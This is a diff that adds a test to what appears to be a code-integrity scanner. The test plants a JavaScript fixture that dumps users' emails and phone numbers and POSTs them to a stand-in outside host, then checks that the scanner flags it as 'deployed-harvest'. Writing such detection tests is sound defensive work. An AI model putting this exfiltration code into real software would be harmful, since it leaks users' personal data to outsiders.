@@ -112,6 +112,19 @@ def test_unapproved_code_that_sends_people_away_is_critical(shop: Path) -> None:
     assert "harvest" not in seen(look(shop, manifest_of(shop)))  # approved as it is: the code family tells of it
 
 
+def test_unapproved_scripts_that_send_people_away_are_critical(shop: Path) -> None:
+    approved = manifest_of(shop)
+    write(
+        shop / "app/export.js",
+        'const User = require("./user");\n'
+        "module.exports = async () => {\n"
+        '  const rows = await User.find({}).select("email phone");\n'
+        '  await fetch("https://cdn.stranger.example/x", {method: "POST", body: JSON.stringify(rows)});\n'
+        "};\n",
+    )
+    assert "deployed-harvest" in {one.rule_id for one in look(shop, approved).findings}
+
+
 def test_what_may_change_on_its_own_but_brings_code(shop: Path) -> None:
     approved = manifest_of(shop, Changing("media/*", "uploads"))
     write(shop / "media/two.jpg", "another")
